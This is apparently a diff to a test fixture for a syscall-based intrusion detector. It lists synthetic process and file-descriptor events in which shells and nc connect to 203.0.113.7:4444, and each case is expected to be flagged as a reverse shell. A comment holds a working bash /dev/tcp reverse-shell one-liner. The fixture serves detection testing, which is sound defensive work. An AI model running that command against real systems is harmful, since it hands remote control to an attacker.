@@ -107,8 +107,8 @@ execve tid=800 start=800000000 ppid=100 comm=sh exe=/usr/bin/dash argv=sh stdin_
 @proc.stderr.type = file
 execve tid=801 start=801000000 ppid=100 comm=sh exe=/usr/bin/dash argv=sh stdin_fd=pipe stdout_fd=tcp,10.0.0.5:40000>203.0.113.7:4444 cgroup=20
 execve tid=802 start=802000000 ppid=100 comm=sh exe=/usr/bin/dash argv=sh stdin_fd=unix stdout_fd=unix cgroup=20
-execve tid=805 start=805000000 ppid=1 comm=xinetd exe=/usr/sbin/xinetd argv=xinetd cgroup=1
-execve tid=803 start=803000000 ppid=805 comm=sh exe=/usr/bin/dash argv=sh stdin_fd=tcp,10.0.0.5:79>203.0.113.7:4444 stdout_fd=tcp,10.0.0.5:79>203.0.113.7:4444 cgroup=1
+execve tid=799 start=799000000 ppid=1 comm=xinetd exe=/usr/sbin/xinetd argv=xinetd cgroup=1
+execve tid=803 start=803000000 ppid=799 comm=sh exe=/usr/bin/dash argv=sh stdin_fd=tcp,10.0.0.5:79>203.0.113.7:4444 stdout_fd=tcp,10.0.0.5:79>203.0.113.7:4444 cgroup=1
 execve tid=804 start=804000000 ppid=100 comm=nc exe=/usr/bin/nc argv=nc stdin_fd=tcp,10.0.0.5:40000>203.0.113.7:4444 stdout_fd=tcp,10.0.0.5:40000>203.0.113.7:4444 cgroup=20
 # bash -i >& /dev/tcp/203.0.113.7/4444 0>&1
 dup2 tid=100 res=1 oldfd=3 newfd=1 file=tcp,10.0.0.5:40001>203.0.113.7:4444 cgroup=20 => Reverse shell
